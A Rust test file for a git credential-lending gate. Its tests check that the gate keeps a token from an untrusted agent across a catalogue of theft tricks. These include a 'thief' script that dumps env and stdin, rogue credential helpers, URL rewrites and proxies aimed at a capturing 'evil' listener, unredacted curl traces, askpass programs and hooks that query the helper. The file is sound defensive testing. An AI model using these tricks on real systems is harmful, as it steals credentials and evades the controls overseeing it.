//! Settings, variables and hooks that would have git hand its lent token on, or write it down.
//!
//! Each trap is proved first: the bare git, given the token by a helper of the test, falls into it. Then the same through
//! the gate, under a policy that lets every named program run.

use std::fs;
use std::io::{Read, Write};
use std::net::TcpListener;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::process::{Command, Output};
use std::sync::{Arc, Mutex};

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;

use crate::support::hosts::{GIT_TOKEN, Hosts, git};
use crate::support::site::{Setup, Site, words};

const POLICY: &str = r#"
@id("local") permit(principal, action, resource) unless {
  action in [Action::"git.fetch", Action::"git.push", Action::"git.force_push"]
};
@id("git-host") @grant("git-host") permit(principal, action in [Action::"git.fetch", Action::"git.push"], resource);
"#;

/// The agent's machine, the host, and a host of the agent's own that writes down what it hears.
struct Scene {
    hosts: Hosts,
    site: Site,
    evil: String,
    heard: Arc<Mutex<Vec<u8>>>,
}

/// One way to steal: what the agent sets before its line.
#[derive(Default)]
struct Trap {
    name: &'static str,
    /// `git config` of the agent's own file.
    global: Vec<[String; 2]>,
    /// `git config` of the repository.
    local: Vec<[String; 2]>,
    environment: Vec<[String; 2]>,
}

impl Scene {
    fn start() -> Scene {
        let hosts = Hosts::start();
        let site = Site::with(&Setup { policy: POLICY, server: &hosts.server_toml(), ..Setup::default() });
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let evil = format!("http://127.0.0.1:{}", listener.local_addr().unwrap().port());
        let heard = Arc::new(Mutex::new(Vec::new()));
        let ears = Arc::clone(&heard);
        std::thread::spawn(move || listen(&listener, &ears));
        let scene = Scene { hosts, site, evil, heard };
        let thief =
            "#!/bin/sh\n{ echo \"$0 $*\"; env; timeout 1 cat; } >> \"$HOME/stolen\"\n: > \"$HOME/robbed\"\nexit 0\n";
        fs::write(scene.site.path("agent/thief"), thief).unwrap();
        fs::set_permissions(scene.site.path("agent/thief"), fs::Permissions::from_mode(0o755)).unwrap();
        let work = scene.site.path("work");
        git(&work, &["init", "-q", "-b", "main"]);
        git(&work, &["-c", "user.name=a", "-c", "user.email=a@b.example", "commit", "-q", "--allow-empty", "-m", "a"]);
        git(&work, &["remote", "add", "origin", &format!("{}/acme/app.git", scene.hosts.git)]);
        scene
    }

    fn thief(&self) -> String {
        self.site.path("agent/thief").display().to_string()
    }

    /// Sets the trap, and tells whether the token is anywhere where the agent, or its host, can read it afterwards.
    fn falls_into(&self, trap: &Trap, command: &mut Command) -> (bool, Output) {
        let config = self.site.path("work/.git/config");
        let clean = fs::read(&config).unwrap();
        let home = self.site.path("agent/.gitconfig");
        for ([key, value], file) in
            trap.global.iter().map(|s| (s, &home)).chain(trap.local.iter().map(|s| (s, &config)))
        {
            git(&self.site.path("work"), &["config", "--file", file.to_str().unwrap(), "--add", key, value]);
        }
        for [name, value] in &trap.environment {
            command.env(name, value);
        }
        let output = command.output().unwrap();
        let heard = std::mem::take(&mut *self.heard.lock().unwrap());
        let basic = STANDARD.encode(format!("portcullis:{GIT_TOKEN}"));
        let holds = |bytes: &[u8]| {
            [GIT_TOKEN, &basic].iter().any(|secret| bytes.windows(secret.len()).any(|w| w == secret.as_bytes()))
        };
        let leaked = holds(&heard)
            || holds(&output.stdout)
            || holds(&output.stderr)
            || ["agent", "work"].iter().any(|folder| files(&self.site.path(folder)).iter().any(|bytes| holds(bytes)));
        fs::write(&config, clean).unwrap();
        for left in [".gitconfig", "stolen", ".git-credentials", "trace", "cookies"] {
            let _ = fs::remove_file(self.site.path("agent").join(left));
        }
        (leaked, output)
    }

    /// The bare git, to which somebody gave the token.
    fn bare(&self, line: &[&str]) -> Command {
        let mut command = Command::new("/usr/bin/git");
        let given = format!("!f() {{ echo username=portcullis; echo password={GIT_TOKEN}; }}; f");
        command.current_dir(self.site.path("work")).env_clear().env("PATH", "/usr/bin:/bin");
        command.env("HOME", self.site.path("agent")).env("GIT_CONFIG_NOSYSTEM", "1").env("GIT_TERMINAL_PROMPT", "0");
        command.args(["-c", &format!("credential.helper={given}")]).args(line);
        command
    }

    fn gated(&self, line: &[&str]) -> Command {
        let mut command = self.site.shim("git");
        command.args(line);
        command
    }

    /// Every trap catches the bare git and none the gated one; without any, the gate lends.
    fn holds(&self, traps: &[Trap], line: &[&str]) {
        for trap in traps {
            let (leaked, output) = self.falls_into(trap, &mut self.bare(line));
            assert!(leaked, "{}: the trap is none: {}", trap.name, words(&output));
            let (leaked, output) = self.falls_into(trap, &mut self.gated(line));
            assert!(!leaked, "{}: {}", trap.name, words(&output));
            // It ran, or the gate said no; nothing else.
            let code = output.status.code();
            assert!(matches!(code, Some(0 | 125 | 126 | 128)), "{}: {}", trap.name, words(&output));
        }
        let (leaked, output) = self.falls_into(&Trap::default(), &mut self.gated(line));
        assert!(output.status.success() && !leaked, "{}", words(&output));
    }
}

/// Wants a password of everybody, and keeps what it hears.
fn listen(listener: &TcpListener, heard: &Mutex<Vec<u8>>) {
    for stream in listener.incoming() {
        let Ok(mut stream) = stream else { continue };
        let mut request = Vec::new();
        let mut buffer = [0; 4096];
        while !request.windows(4).any(|w| w == b"\r\n\r\n") {
            match stream.read(&mut buffer) {
                Ok(0) | Err(_) => break,
                Ok(n) => request.extend_from_slice(&buffer[..n]),
            }
        }
        heard.lock().unwrap().append(&mut request);
        let _ = stream.write_all(
            b"HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: Basic realm=\"x\"\r\nContent-Length: 0\r\nConnection: close\r\n\r\n",
        );
    }
}

fn files(folder: &Path) -> Vec<Vec<u8>> {
    let mut all = Vec::new();
    for entry in fs::read_dir(folder).unwrap() {
        let path = entry.unwrap().path();
        if path.is_dir() {
            all.append(&mut files(&path));
        } else {
            // A socket is no file.
            all.extend(fs::read(&path));
        }
    }
    all
}

fn pair(key: impl Into<String>, value: impl Into<String>) -> [String; 2] {
    [key.into(), value.into()]
}

#[test]
fn a_credential_helper_of_the_agents_own() {
    let scene = Scene::start();
    let (thief, host) = (scene.thief(), scene.hosts.git.clone());
    let url = format!("{host}/acme/app.git");
    let named = host.replace("http://", "http://portcullis@");
    let by_variables = |value: &str| {
        let pairs =
            [("GIT_CONFIG_COUNT", "1"), ("GIT_CONFIG_KEY_0", "credential.helper"), ("GIT_CONFIG_VALUE_0", value)];
        pairs.map(|(name, value)| pair(name, value)).to_vec()
    };
    let global = |name, key: &str, value: &str| Trap { name, global: vec![pair(key, value)], ..Trap::default() };
    let local = |name, key: &str, value: &str| Trap { name, local: vec![pair(key, value)], ..Trap::default() };
    scene.holds(
        &[
            global("in the agent's file", "credential.helper", &thief),
            local("in the repository", "credential.helper", &thief),
            local("for the host", &format!("credential.{host}.helper"), &thief),
            local("for the repository's URL", &format!("credential.{url}.helper"), &thief),
            local("for that URL with a slash", &format!("credential.{url}/.helper"), &thief),
            local("for any port", &format!("credential.{}.helper", host.replace("//127.", "//*.")), &thief),
            global("git's own store", "credential.helper", "store"),
            global("git's own store for the URL", &format!("credential.{url}.helper"), "store"),
            Trap { name: "by variables", environment: by_variables(&thief), ..Trap::default() },
            Trap { name: "the store by variables", environment: by_variables("store"), ..Trap::default() },
            Trap {
                name: "for the user",
                local: vec![
                    pair(format!("credential.{named}.helper"), &thief),
                    pair(format!("url.{named}/.insteadOf"), format!("{host}/")),
                ],
                ..Trap::default()
            },
        ],
        &["ls-remote", "origin"],
    );
}

#[test]
fn another_address_for_the_same_remote() {
    let scene = Scene::start();
    let (evil, host) = (scene.evil.clone(), scene.hosts.git.clone());
    let local = |name, pairs: Vec<[String; 2]>| Trap { name, local: pairs, ..Trap::default() };
    let variables = |name, key: &str, value: &str| {
        let pairs = [("GIT_CONFIG_COUNT", "1"), ("GIT_CONFIG_KEY_0", key), ("GIT_CONFIG_VALUE_0", value)];
        Trap { name, environment: pairs.map(|(name, value)| pair(name, value)).to_vec(), ..Trap::default() }
    };
    let environment =
        |name, variable: &str, value: &str| Trap { name, environment: vec![pair(variable, value)], ..Trap::default() };
    let remote = format!("{evil}/acme/app.git");
    scene.holds(
        &[
            local("rewritten", vec![pair(format!("url.{evil}/.insteadOf"), format!("{host}/"))]),
            variables("rewritten by variables", &format!("url.{evil}/.insteadOf"), &format!("{host}/")),
            local("a proxy", vec![pair("http.proxy", &evil)]),
            local("a proxy for the host", vec![pair(format!("http.{host}.proxy"), &evil)]),
            local("a proxy for the repository", vec![pair(format!("http.{host}/acme/app.git.proxy"), &evil)]),
            local("a proxy of the remote", vec![pair("remote.origin.proxy", &evil)]),
            variables("a proxy by variables", "http.proxy", &evil),
            environment("a proxy of curl's", "http_proxy", &evil),
            environment("a proxy for all", "ALL_PROXY", &evil),
        ],
        &["ls-remote", "origin"],
    );
    let pushed = local("another address to push to", vec![pair("remote.origin.pushurl", &remote)]);
    let rewritten = local("rewritten to push to", vec![pair(format!("url.{evil}/.pushInsteadOf"), format!("{host}/"))]);
    let second = variables("a second address by variables", "remote.origin.url", &remote);
    scene.holds(&[pushed, rewritten, second], &["push", "-q", "origin", "main"]);
}

#[test]
fn settings_that_print_or_keep_what_is_sent() {
    let scene = Scene::start();
    let trace = scene.site.path("agent/trace").display().to_string();
    let environment = |name, pairs: &[(&str, &str)]| Trap {
        name,
        environment: pairs.iter().map(|(name, value)| pair(*name, *value)).collect(),
        ..Trap::default()
    };
    scene.holds(
        &[
            environment("curl's trace to a file", &[("GIT_TRACE_CURL", &trace), ("GIT_TRACE_REDACT", "0")]),
            environment("curl's trace to the terminal", &[("GIT_TRACE_CURL", "1"), ("GIT_TRACE_REDACT", "0")]),
            environment("curl's words", &[("GIT_CURL_VERBOSE", "1"), ("GIT_TRACE_REDACT", "0")]),
        ],
        &["ls-remote", "origin"],
    );
}

#[test]
fn another_voice_in_the_conversation_with_the_host() {
    let scene = Scene::start();
    let thief = scene.thief();
    let cookies = scene.site.path("agent/cookies").display().to_string();
    let local = |name, pairs: Vec<[String; 2]>| Trap { name, local: pairs, ..Trap::default() };
    let traps = [
        local("askpass", vec![pair("core.askPass", &thief)]),
        Trap { name: "askpass by variable", environment: vec![pair("GIT_ASKPASS", &thief)], ..Trap::default() },
        Trap { name: "ssh's askpass", environment: vec![pair("SSH_ASKPASS", &thief)], ..Trap::default() },
        local("a header", vec![pair("http.extraHeader", "Authorization: Basic b3RoZXI6b3RoZXI=")]),
        local("cookies", vec![pair("http.cookieFile", &cookies), pair("http.saveCookies", "true")]),
        local("a proxy for git's own protocol", vec![pair("core.gitProxy", &thief)]),
        local("another host's redirects", vec![pair("http.followRedirects", "true")]),
        local("no questions about certificates", vec![pair("http.sslVerify", "false")]),
        local("a remote helper", vec![pair("remote.origin.vcs", "ext")]),
    ];
    // None of these shows the token by itself: what counts is that the thief is not started where it is lent.
    for trap in &traps {
        let (leaked, output) = scene.falls_into(trap, &mut scene.gated(&["ls-remote", "origin"]));
        assert!(!leaked, "{}: {}", trap.name, words(&output));
        assert!(!scene.site.path("agent/robbed").exists(), "{}: {}", trap.name, words(&output));
        // git itself does not take `ext` for a remote, unless protocol.ext.allow says so.
        let own = trap.name == "a remote helper" && words(&output).contains("not allowed");
        assert!(own || matches!(output.status.code(), Some(0 | 126)), "{}: {}", trap.name, words(&output));
    }
}

#[test]
fn a_program_that_git_starts_beside_its_helper() {
    let scene = Scene::start();
    let helper = scene.site.path("lib/portcullis/git-credential-portcullis");
    let host = scene.hosts.git.replace("http://", "");
    let asks = format!(
        "#!/bin/sh\nprintf 'protocol=http\\nhost={host}\\npath=acme/app.git\\n\\n' | {} get >> \"$HOME/stolen\" 2>&1\n\
         echo \"$0 $*\" >> \"$HOME/robbed\"; env >> \"$HOME/stolen\"; cat >> \"$HOME/stolen\"\nexit 0\n",
        helper.display()
    );
    let hooks = scene.site.path("work/.git/hooks");
    for hook in ["pre-push", "reference-transaction"] {
        fs::write(hooks.join(hook), &asks).unwrap();
        fs::set_permissions(hooks.join(hook), fs::Permissions::from_mode(0o755)).unwrap();
    }
    fs::write(scene.site.path("agent/thief"), &asks).unwrap();
    let monitor = Trap { name: "monitor", local: vec![pair("core.fsmonitor", scene.thief())], ..Trap::default() };
    for line in [&["push", "-q", "origin", "main"][..], &["fetch", "-q", "origin"], &["pull", "-q", "origin", "main"]] {
        for trap in [&Trap::default(), &monitor] {
            let (leaked, output) = scene.falls_into(trap, &mut scene.gated(line));
            assert!(!leaked, "{line:?} {}: {}", trap.name, words(&output));
        }
    }
    assert!(scene.site.path("agent/robbed").exists(), "no program of the agent's was started at all");
}
